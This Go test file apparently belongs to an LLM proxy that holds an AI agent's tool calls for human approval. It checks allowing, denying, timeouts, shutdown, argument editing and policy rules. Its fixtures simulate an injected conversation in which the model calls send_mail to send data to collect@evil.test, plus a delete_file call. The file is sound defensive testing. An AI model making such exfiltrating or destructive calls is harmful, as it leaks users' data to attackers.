package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/archestra-ai/archestra-cli/pkg/llm"
	"github.com/archestra-ai/archestra-cli/pkg/wire"
)

// openAsks are the questions as `ask list --json` prints them.
func (r *running) openAsks(t *testing.T) []llm.Ask {
	t.Helper()
	var all []llm.Ask
	for in := json.NewDecoder(strings.NewReader(r.command(t, "ask", "list", "--json"))); in.More(); {
		var a llm.Ask
		if err := in.Decode(&a); err != nil {
			t.Fatal(err)
		}
		all = append(all, a)
	}
	return all
}

// names lists the calls that an answer has.
func names(a llm.Answer) string {
	var all []string
	for _, c := range a.ToolCalls {
		all = append(all, c.Name)
	}
	return strings.Join(all, " ")
}

// inserted tells whether got is want with a number of repetitions of extra at one
// place, and how many.
func inserted(got, want string, extra []byte) (n int, ok bool) {
	at := 0
	for at < len(want) && at < len(got) && got[at] == want[at] {
		at++
	}
	more := len(got) - len(want)
	if more < 0 || len(extra) == 0 || more%len(extra) != 0 || got[at+more:] != want[at:] {
		return 0, false
	}
	n = more / len(extra)
	// Where the repeated bytes begin as what follows them does, they were met in
	// another turn.
	return n, strings.Contains(strings.Repeat(string(extra), n+1), got[at:at+more])
}

// TestAskAllowed: a call that waits is seen by every tail and in the list; the
// client's connection lives on by bytes that say nothing; once a person allows it,
// the client has what the provider sent, to the byte.
func TestAskAllowed(t *testing.T) {
	t.Parallel()
	_, sim := simulated(t, nil)
	r := startGuarded(t, t.TempDir(), sim, nil, "--ask-timeout", "10m")
	f := r.follow(t)
	seen := map[string]bool{}
	type waiting struct {
		speech  speech
		reading *reading
		ask     llm.Ask
		came    int // bytes that were there when the call was held
		since   time.Time
		quiet   time.Duration
	}
	var all []*waiting
	for _, s := range speeches {
		w := &waiting{speech: s, reading: s.begin(t, r.base+"/v1"+s.path(true), mails, attacked, true)}
		w.ask = f.held(t, seen)
		w.since = time.Now()
		if w.ask.Tool != "send_mail" || string(w.ask.Arguments) != stolen || w.ask.Rule == "" || w.ask.Path != "to" || w.ask.ExpiresAt == nil || w.ask.Profile != profile {
			t.Errorf("%s: the question is %+v", s.name, w.ask)
		}
		until(t, s.name+": the text before the call passes", func() bool { return strings.Contains(w.reading.soFar(), "look.") })
		w.came = len(w.reading.soFar())
		if strings.Contains(w.reading.soFar(), "collect@evil.test") {
			t.Errorf("%s: a held call reached the client: %s", s.name, w.reading.soFar())
		}
		all = append(all, w)
	}
	open := r.openAsks(t)
	if len(open) != len(all) {
		t.Fatalf("%d questions are open, want %d", len(open), len(all))
	}
	for i, w := range all {
		if open[i].ID != w.ask.ID || string(open[i].Arguments) != stolen || open[i].Interaction != w.ask.Interaction {
			t.Errorf("the list has %+v", open[i])
		}
	}
	if list := r.command(t, "ask", "list"); strings.Count(list, "send_mail") < len(all) || !strings.Contains(list, "rule "+all[0].ask.Rule) || !strings.Contains(list, "left") {
		t.Errorf("the list for people: %s", list)
	}
	for _, w := range all {
		until(t, w.speech.name+": bytes while it waits", func() bool {
			return len(w.reading.soFar()) > w.came
		})
		w.quiet = time.Since(w.since)
	}
	for _, w := range all {
		r.command(t, "ask", "allow", w.ask.ID)
		if a := f.settled(t, w.ask.ID); a.Answer != llm.ActionAllow || a.By != "terminal" {
			t.Errorf("%s: settled by %+v", w.speech.name, a)
		}
		got := w.reading.whole(t)
		want := w.speech.from(t, sim, mails, attacked, true)
		extra := w.speech.format.(wire.Gated).NewGate(w.reading.header.Get("Content-Type"), wire.GateOptions{}).KeepAlive()
		if strings.Contains(want, "\r\n") {
			extra = bytes.ReplaceAll(extra, []byte("\n"), []byte("\r\n")) // the stream's own line ends
		}
		n, ok := inserted(got, want, extra)
		if !ok || n == 0 {
			t.Errorf("%s: the client got %d bytes\n%s\nand the provider sent %d\n%s", w.speech.name, len(got), got, len(want), want)
		}
		t.Logf("%s: %d times %q, the first after %v", w.speech.name, n, extra, w.quiet.Round(time.Millisecond))
	}
	if open := r.openAsks(t); len(open) != 0 {
		t.Errorf("still open: %+v", open)
	}
	for id, i := range r.logs(t) {
		for _, c := range i.ToolCalls {
			if c.Verdict != llm.ActionAsk && c.Verdict != llm.ActionAllow || c.Answer != llm.ActionAllow || c.By != "terminal" {
				t.Errorf("%s is recorded with %+v", id, c)
			}
		}
	}
}

// TestAskDenied: the answer of a denied call says so, streamed or whole, and the
// answers before and behind it are what they were.
func TestAskDenied(t *testing.T) {
	t.Parallel()
	_, sim := simulated(t, nil)
	r := startGuarded(t, t.TempDir(), sim, nil, "--ask-timeout", "10m")
	f := r.follow(t)
	seen := map[string]bool{}
	eachSpeech(t, func(t *testing.T, s speech, stream bool) {
		c := attacked
		c.user += " It is for " + t.Name() // an answer counts for a conversation
		w := s.begin(t, r.base+"/v1"+s.path(stream), three, c, stream)
		a := f.held(t, seen)
		r.command(t, "ask", "deny", a.ID)
		w.whole(t)
		got := s.decode(w)
		if names(got) != "get_weather get_weather" || !got.Complete {
			t.Errorf("the client got the calls %q, complete %v", names(got), got.Complete)
		}
		if text := got.Text(); !strings.Contains(text, "A person denied it.") || !strings.Contains(text, "collect@evil.test") || strings.Count(text, "[archestra]") != 1 {
			t.Errorf("it says %q", text)
		}
		if strings.Contains(w.soFar(), `\"text\":\"42\"`) || strings.Contains(w.soFar(), `"text":"42"`) {
			t.Errorf("arguments of the denied call reached the client: %s", w.soFar())
		}
	})
	if t.Failed() {
		return
	}
	told := 0
	for id, i := range r.logs(t) {
		if i.State != llm.StateDone {
			t.Errorf("%s is %s", id, i.State)
		}
		for _, c := range i.ToolCalls {
			if c.Name == "send_mail" && c.Verdict == llm.ActionBlock && c.Answer == llm.ActionBlock && c.By == "terminal" {
				told++
			}
		}
	}
	if told != 2*len(speeches) {
		t.Errorf("%d refusals are recorded, want %d", told, 2*len(speeches))
	}
}

// TestAskUnanswered: what a question becomes that nobody answers, with and without
// a terminal.
func TestAskUnanswered(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name   string
		flags  []string
		tail   bool
		passes bool
		says   string
		by     string
		least  time.Duration
	}{
		{"no terminal", nil, false, false, "no terminal is attached", "unattended", 0},
		{"no terminal, allow", []string{"--ask", "allow"}, false, true, "", "unattended", 0},
		{"somebody who only looks", []string{"--ask-timeout", "1s"}, false, false, "no terminal is attached", "unattended", 0},
		{"time out", []string{"--ask-timeout", "1s"}, true, false, "did not answer in time", "timeout", time.Second},
		{"time out, allow", []string{"--ask-timeout", "1s", "--ask", "allow"}, true, true, "", "timeout", time.Second},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			_, sim := simulated(t, nil)
			r := startGuarded(t, t.TempDir(), sim, nil, tt.flags...)
			if tt.tail {
				r.follow(t)
			} else if tt.flags != nil {
				r.look(t)
			}
			for stream, s := range map[bool]speech{true: speeches[0], false: speeches[2]} {
				began := time.Now()
				w, got := s.through(t, r, mails, attacked, stream)
				if took := time.Since(began); took < tt.least || took > tt.least+30*time.Second { // less than where no time is set
					t.Errorf("%s: it took %v", s.name, took)
				}
				if passed := names(got) == "send_mail"; passed != tt.passes {
					t.Errorf("%s: the client got the calls %q", s.name, names(got))
				}
				if !strings.Contains(got.Text(), tt.says) {
					t.Errorf("%s: it says %q", s.name, got.Text())
				}
				if tt.passes && w.soFar() != s.from(t, sim, mails, attacked, stream) {
					t.Errorf("%s: it came otherwise than the provider sent it", s.name)
				}
			}
			for id, i := range r.logs(t) {
				if c := i.ToolCalls[0]; c.By != tt.by {
					t.Errorf("%s is recorded as settled by %q, want %q", id, c.By, tt.by)
				}
			}
		})
	}
}

// TestAskQueue: a question waits without a terminal, and without an end.
func TestAskQueue(t *testing.T) {
	t.Parallel()
	_, sim := simulated(t, nil)
	r := startGuarded(t, t.TempDir(), sim, nil, "--ask", "queue", "--ask-timeout", "1s")
	s := speeches[1]
	w := s.begin(t, r.base+"/v1"+s.path(true), mails, attacked, true)
	var open []llm.Ask
	until(t, "the question", func() bool { open = r.openAsks(t); return len(open) == 1 })
	time.Sleep(time.Until(open[0].AskedAt.Add(1500 * time.Millisecond))) // beyond the time of other questions
	if again := r.openAsks(t); len(again) != 1 || again[0].ExpiresAt != nil {
		t.Fatalf("open are %+v", again)
	}
	r.command(t, "ask", "allow") // the only one
	w.whole(t)
	if got := names(s.decode(w)); got != "send_mail" {
		t.Errorf("the client got the calls %q", got)
	}
}

// TestAskLeft: the question of a client that goes away is settled at once, and its
// exchange ends.
func TestAskLeft(t *testing.T) {
	t.Parallel()
	_, sim := simulated(t, nil)
	r := startGuarded(t, t.TempDir(), sim, nil, "--ask-timeout", "10m")
	f := r.follow(t)
	seen := map[string]bool{}
	for _, stream := range []bool{true, false} {
		for _, s := range []speech{speeches[0], speeches[3], speeches[4]} {
			w := s.begin(t, r.base+"/v1"+s.path(stream), mails, attacked, stream)
			a := f.held(t, seen)
			w.leave()
			if a = f.settled(t, a.ID); a.Answer != llm.ActionBlock || a.By != "client_gone" {
				t.Errorf("%s, stream %v: settled as %+v", s.name, stream, a)
			}
			e := f.await(t, "the end", func(e llm.Event) bool {
				return e.Type == llm.EventFinished && e.Interaction != nil && e.Interaction.ID == a.Interaction
			})
			if c := e.Interaction.ToolCalls; len(c) != 1 || c[0].Verdict != llm.ActionBlock || c[0].By != "client_gone" {
				t.Errorf("%s, stream %v: it ended as %s with %+v", s.name, stream, e.Interaction.State, c)
			}
		}
	}
	if open := r.openAsks(t); len(open) != 0 {
		t.Errorf("still open: %+v", open)
	}
}

// TestAskShutdown: a server that ends settles what is open, lets the answers end
// well, and is gone long before the question would have been.
func TestAskShutdown(t *testing.T) {
	t.Parallel()
	_, sim := simulated(t, nil)
	r := startGuarded(t, t.TempDir(), sim, nil, "--ask-timeout", "10m", "--shutdown-timeout", "10m")
	f := r.follow(t)
	seen := map[string]bool{}
	var all []*reading
	for i, s := range speeches {
		all = append(all, s.begin(t, r.base+"/v1"+s.path(i%2 == 0), mails, attacked, i%2 == 0))
		f.held(t, seen)
	}
	ended := time.Now().Add(patience)
	if err := r.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	for i, w := range all {
		w.whole(t)
		got := speeches[i].decode(w)
		if len(got.ToolCalls) != 0 || !got.Complete || !strings.Contains(got.Text(), "shut down before a person answered") {
			t.Errorf("%s: calls %q, complete %v, it says %q", speeches[i].name, names(got), got.Complete, got.Text())
		}
	}
	if err := r.cmd.Wait(); err != nil {
		t.Errorf("after SIGTERM: %v\n%s", err, r.stderr)
	}
	if late := time.Since(ended); late > 0 {
		t.Errorf("it took %v too long to end", late)
	}
	again := startGuarded(t, r.dir, sim, nil)
	for id, i := range again.logs(t) {
		if i.State != llm.StateDone || len(i.ToolCalls) != 1 || i.ToolCalls[0].By != "shutdown" {
			t.Errorf("%s is recorded as %s, %+v", id, i.State, i.ToolCalls)
		}
	}
}

// TestAskKilled: a server that was killed leaves no question open.
func TestAskKilled(t *testing.T) {
	t.Parallel()
	_, sim := simulated(t, nil)
	r := startGuarded(t, t.TempDir(), sim, nil, "--ask", "queue")
	s := speeches[0]
	w := s.begin(t, r.base+"/v1"+s.path(true), mails, attacked, true)
	until(t, "the question", func() bool { return len(r.openAsks(t)) == 1 })
	r.kill()
	<-w.done
	if w.err == nil || strings.Contains(w.soFar(), "collect@evil.test") {
		t.Errorf("the client took it for whole: %v, %s", w.err, w.soFar())
	}
	again := startGuarded(t, r.dir, sim, nil, "--ask", "queue")
	if open := again.openAsks(t); len(open) != 0 {
		t.Errorf("open are %+v", open)
	}
	for id, i := range again.logs(t) {
		if i.State != llm.StateInterrupted {
			t.Errorf("%s is recorded as %s", id, i.State)
		}
	}
}

// TestAskAlways: an answer for good becomes a rule in policy.yaml, for exactly that
// call, at once and after a restart.
func TestAskAlways(t *testing.T) {
	t.Parallel()
	_, sim := simulated(t, nil)
	dir := t.TempDir()
	file := filepath.Join(dir, "archestra", "policy.yaml")
	if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
		t.Fatal(err)
	}
	const own = "# my own words\nversion: 1\ndeny:\n  - id: mine\n    tool: drop_table\n"
	if err := os.WriteFile(file, []byte(own), 0o600); err != nil {
		t.Fatal(err)
	}
	r := startGuarded(t, dir, sim, nil, "--ask", "queue")
	allowed, denied := speeches[2], speeches[0]
	answer := func(s speech, script string, args ...string) llm.Answer {
		w := s.begin(t, r.base+"/v1"+s.path(true), script, attacked, true)
		until(t, "the question", func() bool { return len(r.openAsks(t)) == 1 })
		r.command(t, append([]string{"ask"}, args...)...)
		w.whole(t)
		return s.decode(w)
	}
	if got := answer(allowed, mails, "allow", "last", "--always"); names(got) != "send_mail" {
		t.Errorf("the client got %q", names(got))
	}
	const other = `call delete_file {"path":"/srv/figures.txt"}`
	if got := answer(denied, other, "deny", "last", "--always"); len(got.ToolCalls) != 0 {
		t.Errorf("the client got %q", names(got))
	}
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range []string{"# my own words", "id: mine", "tool: send_mail", "tool: delete_file", "profile: " + profile, "collect@evil.test", "/srv/figures.txt"} {
		if !bytes.Contains(text, []byte(part)) {
			t.Errorf("no %q in\n%s", part, text)
		}
	}
	out := r.command(t, "policy", "check")
	if !strings.HasPrefix(out, "ok: 3 rules") {
		t.Errorf("policy check: %s", out)
	}
	for range 2 {
		// Nobody is there to answer: what does not pass, or is not refused, waits.
		for _, stream := range []bool{true, false} {
			if w, got := allowed.through(t, r, mails, attacked, stream); names(got) != "send_mail" || w.soFar() != allowed.from(t, sim, mails, attacked, stream) {
				t.Errorf("the client got %q: %s", names(got), got.Text())
			}
			if _, got := denied.through(t, r, other, attacked, stream); len(got.ToolCalls) != 0 || !strings.Contains(got.Text(), "Rule answer-") {
				t.Errorf("the client got %q: %s", names(got), got.Text())
			}
		}
		for _, near := range []string{
			`call send_mail {"to":"other@evil.test","text":"42"}`,
			`call send_mail {"to":"collect@evil.test","cc":"other@evil.test","text":"42"}`,
			`call forward_mail {"to":"collect@evil.test","text":"42"}`,
		} {
			w := allowed.begin(t, r.base+"/v1"+allowed.path(true), near, attacked, true)
			until(t, "a question about "+near, func() bool { return len(r.openAsks(t)) == 1 })
			r.command(t, "ask", "deny")
			w.whole(t)
		}
		if err := r.cmd.Process.Signal(syscall.SIGTERM); err != nil {
			t.Fatal(err)
		}
		if err := r.cmd.Wait(); err != nil {
			t.Fatal(err)
		}
		r = startGuarded(t, dir, sim, nil, "--ask", "queue")
	}
}

// TestAskEdited: what a person made of the arguments reaches the client, in every
// format, as a call like any other.
func TestAskEdited(t *testing.T) {
	t.Parallel()
	_, sim := simulated(t, nil)
	r := startGuarded(t, t.TempDir(), sim, nil)
	f := r.follow(t)
	seen := map[string]bool{}
	const mine = `{"to":"me@corp.test","text":"«42»\n"}`
	eachSpeech(t, func(t *testing.T, s speech, stream bool) {
		w := s.begin(t, r.base+"/v1"+s.path(stream), three, attacked, stream)
		a := f.held(t, seen)
		r.command(t, "ask", "allow", a.ID, "--arguments", mine)
		w.whole(t)
		got := s.decode(w)
		if names(got) != "get_weather send_mail get_weather" || !got.Complete {
			t.Fatalf("the client got the calls %q, complete %v: %s", names(got), got.Complete, w.soFar())
		}
		var was, want any
		if json.Unmarshal(got.ToolCalls[1].Arguments, &was) != nil || json.Unmarshal([]byte(mine), &want) != nil || !sameJSON(was, want) {
			t.Errorf("the arguments are %s", got.ToolCalls[1].Arguments)
		}
		if strings.Contains(w.soFar(), "collect@evil.test") {
			t.Errorf("the model's own arguments reached the client: %s", w.soFar())
		}
		for i, city := range map[int]string{0: "Paris", 2: "Rome"} {
			if !strings.Contains(string(got.ToolCalls[i].Arguments), city) {
				t.Errorf("call %d has the arguments %s", i, got.ToolCalls[i].Arguments)
			}
		}
	})
}

func sameJSON(a, b any) bool {
	x, errX := json.Marshal(a)
	y, errY := json.Marshal(b)
	return errX == nil && errY == nil && bytes.Equal(x, y)
}

// TestDropTurn: of a turn with a refused call no call arrives.
func TestDropTurn(t *testing.T) {
	t.Parallel()
	_, sim := simulated(t, nil)
	r := startGuarded(t, t.TempDir(), sim, nil, "--on-block", "drop_turn")
	eachSpeech(t, func(t *testing.T, s speech, stream bool) {
		_, got := s.through(t, r, three, attacked, stream)
		if len(got.ToolCalls) != 0 || !got.Complete {
			t.Errorf("the client got the calls %q, complete %v", names(got), got.Complete)
		}
		if text := got.Text(); strings.Count(text, "[archestra]") != 3 || !strings.Contains(text, "collect@evil.test") {
			t.Errorf("it says %q", text)
		}
		const good = `call get_weather {"city":"Paris"} | call get_weather {"city":"Rome"}`
		if w, _ := s.through(t, r, good, attacked, stream); w.soFar() != s.from(t, sim, good, attacked, stream) {
			t.Errorf("a turn without a refused call came otherwise than it was sent: %s", w.soFar())
		}
	})
}

// TestModes: report holds nothing, changes nothing, and says what it would have
// done; off does not even look.
func TestModes(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, policy string
		flags        []string
		would        llm.Action
	}{
		{"report", "", []string{"--mode", "report"}, llm.ActionAsk},
		{"report in the file", "version: 1\nmode: report\n", nil, llm.ActionAsk},
		{"report for the profile", "version: 1\nprofiles: {" + profile + ": {mode: report}}\n", nil, llm.ActionAsk},
		{"off", "", []string{"--mode", "off"}, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			_, sim := simulated(t, nil)
			dir := t.TempDir()
			if tt.policy != "" {
				put(t, filepath.Join(dir, "archestra", "policy.yaml"), tt.policy)
			}
			r := startGuarded(t, dir, sim, nil, tt.flags...)
			f := r.follow(t)
			eachSpeech(t, func(t *testing.T, s speech, stream bool) {
				if w, _ := s.through(t, r, three, attacked, stream); w.soFar() != s.from(t, sim, three, attacked, stream) {
					t.Errorf("it came otherwise than it was sent: %s", w.soFar())
				}
			})
			all := r.logs(t)
			if len(all) != 2*len(speeches) {
				t.Errorf("%d exchanges are recorded", len(all))
			}
			for id, i := range all {
				if c := i.ToolCalls[1]; c.Would != tt.would || c.Verdict == llm.ActionBlock || tt.would != "" && (c.Verdict != llm.ActionAllow || c.Rule == "" || c.Reason == "") || tt.would == "" && c.Verdict != "" {
					t.Errorf("%s (%s) is recorded with %+v", id, i.API, c)
				}
			}
			f.mu.Lock()
			defer f.mu.Unlock()
			for _, e := range f.events {
				if e.Type == llm.EventHeld {
					t.Errorf("a call was held: %+v", e)
				}
			}
		})
	}
}
